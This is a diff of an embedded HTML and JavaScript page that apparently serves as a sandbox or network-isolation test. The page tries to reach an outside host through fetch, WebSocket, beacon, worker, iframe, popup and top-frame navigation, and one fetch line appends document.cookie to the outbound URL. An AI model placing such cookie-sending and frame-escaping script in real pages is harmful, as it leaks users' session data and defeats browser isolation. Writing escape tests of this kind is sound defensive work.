@@ -31,11 +31,14 @@ try { fetch("http://" + out + "/fetch?" + document.cookie).catch(() => {}); } ca
 try { new WebSocket("ws://" + out + "/ws"); } catch (fault) {}
 try { navigator.sendBeacon("http://" + out + "/beacon", "x"); } catch (fault) {}
 try { new Worker(URL.createObjectURL(new Blob(["fetch('http://" + out + "/worker')"]))); } catch (fault) {}
-try { window.open("http://" + out + "/fonster"); } catch (fault) {}
 const frame = document.createElement("iframe");
 frame.src = "http://" + out + "/ram2";
 document.body.append(frame);
-document.querySelector("button").onclick = () => { top.location.href = "http://" + out + "/topp"; };
+document.querySelector("button").onclick = () => {
+  try { window.top.parent.parent.location = "http://" + out + "/utanfor"; } catch (fault) {}
+  try { window.open("http://" + out + "/fonster"); } catch (fault) {}
+  top.location.href = "http://" + out + "/topp";
+};
 </script></body></html>"""
 
 
